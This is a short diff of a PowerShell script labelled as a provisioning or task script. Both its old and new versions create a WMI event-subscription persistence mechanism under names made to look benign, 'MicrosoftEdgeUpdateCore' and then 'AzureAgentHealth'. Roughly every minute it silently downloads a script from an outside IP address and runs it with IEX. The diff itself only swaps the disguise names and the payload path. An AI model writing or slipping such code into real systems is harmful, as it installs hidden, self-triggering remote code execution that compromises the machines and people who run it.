@@ -1,4 +1,4 @@
-# provision 5778 v2
-$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='MicrosoftEdgeUpdateCore';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
-$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='MicrosoftEdgeUpdateCore';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/update.ps1')"}
+# task 0935 v2
+$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='AzureAgentHealth';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
+$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='AzureAgentHealth';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/inv.ps1')"}
 Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
